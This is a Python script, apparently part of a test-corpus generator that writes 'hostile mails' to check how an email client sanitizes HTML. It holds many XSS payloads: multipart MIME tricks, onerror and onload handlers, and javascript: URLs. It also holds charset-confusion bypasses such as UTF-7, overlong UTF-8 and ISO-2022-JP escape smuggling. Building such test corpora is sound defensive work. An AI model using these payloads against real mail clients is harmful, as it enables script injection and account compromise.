    part = lambda kind, body, extra="": f"--b\nContent-Type: {kind}\n{extra}\n{body}\n"
    for name, kind, parts in [
        ("alternative", "multipart/alternative", part("text/plain", "text") + part("text/html", page)), ("alternative-reversed", "multipart/alternative", part("text/html", page) + part("text/plain", "text")), ("alternative-differs", "multipart/alternative", part("text/plain", "1234 5678 9018") + part("text/html", "<p>other")), ("alternative-html-only", "multipart/alternative", part("text/html", page)), ("alternative-amp", "multipart/alternative", part("text/x-amp-html", f"<html amp4email><script src={T}/amp.js></script>") + part("text/plain", "x")),
        ("related-svg", "multipart/related", part("text/html", "<img src=cid:x>") + part("image/svg+xml", f"<svg onload={RUN} xmlns='http://www.w3.org/2000/svg'/>", "Content-ID: <x>\n")), ("related-html", "multipart/related", part("text/html", "<iframe src=cid:x></iframe><a href=cid:x>x</a>") + part("text/html", page, "Content-ID: <x>\n")), ("related-location", "multipart/related", part("text/html", "<img src=a.png>") + part("image/png", "x", f"Content-Location: {T}/a.png\n")), ("related-cid-markup", "multipart/related", part("text/html", "<img src='cid:\"><script>alert(1)</script>'>") + part("image/png", "x", "Content-ID: <\"><script>alert(1)</script>>\n")),
        ("mixed-htmls", "multipart/mixed", part("text/html", f"<div><style>") + part("text/html", page) + part("text/html", "</style></div><table>")), ("mixed-unclosed", "multipart/mixed", part("text/html", "<!--") + part("text/html", f"--><script>{RUN}</script>")), ("mixed-text-html", "multipart/mixed", part("text/plain", f"<script>{RUN}</script> https://tracker.invalid/\"onclick={RUN}") + part("text/html", page)), ("digest", "multipart/digest", f"--b\n\nSubject: <script>{RUN}</script>\nContent-Type: text/html\n\n{page}\n"), ("nested-mail", "multipart/mixed", part("message/rfc822", f"Subject: <img src=x onerror={RUN}>\nContent-Type: text/html\n\n{page}")), ("encrypted", "multipart/encrypted; protocol=\"x\"", part("text/html", page)), ("signed", "multipart/signed; protocol=\"x\"", part("text/html", page) + part("application/pgp-signature", "x")), ("report", "multipart/report; report-type=delivery-status", part("text/html", page) + part("message/delivery-status", f"Diagnostic-Code: smtp; <script>{RUN}</script>")), ("byteranges", "multipart/byteranges", part("text/html", page)), ("x-mixed-replace", "multipart/x-mixed-replace", part("text/html", page) + part("text/html", page)), ("form-data", "multipart/form-data", part("text/html", page, "Content-Disposition: form-data; name=x\n")), ("appledouble", "multipart/appledouble", part("application/applefile", "x") + part("text/html", page)), ("header-value", "multipart/related; type=\"text/html\"; start=\"<x>\"", part("image/png", "x") + part("text/html", page, "Content-ID: <x>\n")), ("empty-html", "multipart/alternative", part("text/plain", "text") + part("text/html", "")), ("preamble", "multipart/mixed", f"<script>{RUN}</script>\n" + part("text/plain", "x")),
    ]:
        write("multipart", name, header("multipart", name) + f"Content-Type: {kind}; boundary=b\n\n{parts}--b--\n<script>{RUN}</script>\n")
    write("multipart", "no-boundary", header("multipart", "no-boundary") + f"Content-Type: multipart/mixed\n\n{page}\n")
    write("multipart", "no-type", header("multipart", "no-type") + f"\n{page}\n")
    write("multipart", "no-header", f"\n{page}\n")
    write("multipart", "two-types", header("multipart", "two-types") + f"Content-Type: text/plain\nContent-Type: text/html\n\n{page}\n")
    write("multipart", "type-broken", header("multipart", "type-broken") + f"Content-Type: text/html/x; =\n\n{page}\n")
    write("multipart", "encoding-lies", header("multipart", "encoding-lies") + f"Content-Type: text/html\nContent-Transfer-Encoding: base64\n\n{page}\n")
    write("multipart", "encoding-quoted", header("multipart", "encoding-quoted") + f"Content-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n=3Cscript=3E{RUN.replace('=', '=3D')}=3C/script=3E=\n<img src=3Dx onerror=3Dalert(1)>\n")
    write("multipart", "uuencode", header("multipart", "uuencode") + "Content-Type: text/plain\n\nbegin 644 <img src=x onerror=alert(1)>.html\n#86)C\n`\nend\n")
    for at, text in enumerate([f"<script>{RUN}</script>", f"https://tracker.invalid/\"><script>{RUN}</script>", f"https://tracker.invalid/' onmouseover='{RUN}", f"javascript:{RUN}", "www.tracker.invalid", "mailto:a@tracker.invalid?body=<x>", "https://tracker.invalid/&lt;script&gt;", "https://aoba.example@tracker.invalid/", "http://" * 3000, "> " * 3000 + "x", ">" * 5000, "a@" * 5000, "\x1b[31m\x08\x00red", "\u202ehttps://tracker.invalid/\u202c", "https://tracker.invalid/" + "a" * 60000, "-- \n<img src=x onerror=alert(1)>"], 1):
        write("multipart", f"text-{at:02}", header("multipart", f"text-{at:02}") + f"Content-Type: text/plain; charset=utf-8; format=flowed\n\n{text}\n")


def charsets():
    def raw(name, label, body, kind="text/html"):
        head = header("charset", name) + f"Content-Type: {kind}; charset={label}\n\n"
        write("charset", name, head.replace("\n", "\r\n").encode() + body + b"\r\n")

    run = RUN.encode()
    raw("utf-7", "utf-7", b"+ADw-script+AD4-" + run + b"+ADw-/script+AD4-")
    raw("utf-7-undeclared", "us-ascii", b"+ADw-script+AD4-" + run + b"+ADw-/script+AD4-")
    raw("utf-7-imap", "utf-7-imap", b"&ADw-script&AD4-" + run)
    raw("overlong", "utf-8", b"\xc0\xbcscript\xc0\xbe" + run + b"\xc0\xbc/script\xc0\xbe")
    raw("overlong-3", "utf-8", b"\xe0\x80\xbcscript\xe0\x80\xbe" + run)
    raw("jis-hidden-tag", "iso-2022-jp", b"\x1b$B\x1b(B<script>" + run + b"</script>")
    raw("jis-in-tag", "iso-2022-jp", b"<scr\x1b(Bipt>" + run + b"</scr\x1b(Bipt>")
    raw("jis-swallows-quote", "iso-2022-jp", b"<img alt=\"\x1b$B\" src=x onerror=" + run + b" title=\"\x1b(B\">")
    raw("jis-roman", "iso-2022-jp", b"\x1b(J<img src=x onerror=\\u0061lert(1)>\x1b(B")
    raw("jis-never-returns", "iso-2022-jp", b"\x1b$B<script>" + run + b"</script>")
    raw("jis-so-si", "iso-2022-jp", b"\x0e<script>" + run + b"\x0f</script>")
    raw("jis-undeclared", "utf-8", b"<p title=\"\x1b$B\"><script>" + run + b"</script>\x1b(B\">")
    raw("kr", "iso-2022-kr", b"\x1b$)C\x0e<script>\x0f" + run)
    raw("hz", "hz-gb-2312", b"~{<script>~}" + run)
    raw("sjis-swallows-quote", "shift_jis", b"<p title=\"\x81\"><img src=x onerror=" + run + b" x=\"\">")
    raw("sjis-backslash", "shift_jis", b"<p title=\"\x95\x5c\" onclick=\"" + run + b"\">\x8e\xa6")
    raw("euc-cut", "euc-jp", b"<p title=\"\xa4\"><img src=x onerror=" + run + b" x=\"\">")
    raw("gb18030", "gb18030", b"<p title=\"\x81\"><img src=x onerror=" + run + b">")
    raw("utf-16", "utf-16", f"<script>{RUN}</script>".encode("utf-16"))
    raw("utf-16le-claimed", "utf-16le", b"<script>" + run + b"</script>")
    raw("utf-16be", "utf-16be", f"<script>{RUN}</script>".encode("utf-16-be"))
    raw("utf-32", "utf-32", f"<script>{RUN}</script>".encode("utf-32"))
    raw("bom", "iso-2022-jp", b"\xef\xbb\xbf<script>" + run + b"</script>")
    raw("ebcdic", "cp037", f"<script>{RUN}</script>".encode("cp037"))
    raw("x-user-defined", "x-user-defined", b"\xbcscript\xbe" + run)
    raw("replacement", "replacement", b"<script>" + run + b"</script>")
    raw("label-markup", "\"<script>alert(1)</script>\"", b"<script>" + run + b"</script>")
    raw("label-empty", "", b"<script>" + run + b"</script>")
    raw("label-long", "x" * 3000, b"<script>" + run + b"</script>")
    raw("meta-lies", "utf-8", b"<meta charset=iso-2022-jp>\x1b(B<script>" + run + b"</script>")
    raw("meta-utf-16", "\"\"", b"<meta charset=utf-16><script>" + run + b"</script>")
    raw("nul-bytes", "utf-8", b"<\0s\0c\0r\0i\0p\0t\0>" + run)
    raw("text-utf-7", "utf-7", b"+ADw-script+AD4-" + run, kind="text/plain")
    raw("text-latin", "iso-8859-1", b"\x80\x9b\xad<script>" + run + b"</script>", kind="text/plain")
    raw("half-surrogate", "utf-8", b"\xed\xa0\x80<script>" + run + b"</script>\xed\xb0\x80")
    raw("noncharacters", "utf-8", b"\xef\xbf\xbf\xf4\x8f\xbf\xbf<img src=x onerror=" + run + b">")


if __name__ == "__main__":
    for folder in HERE.iterdir():
        if folder.is_dir():
            shutil.rmtree(folder)
    for make in [elements, styles, drawings, addresses, headers, names, types, multiparts, charsets]:
        make()
    print(f"{count} hostile mails")
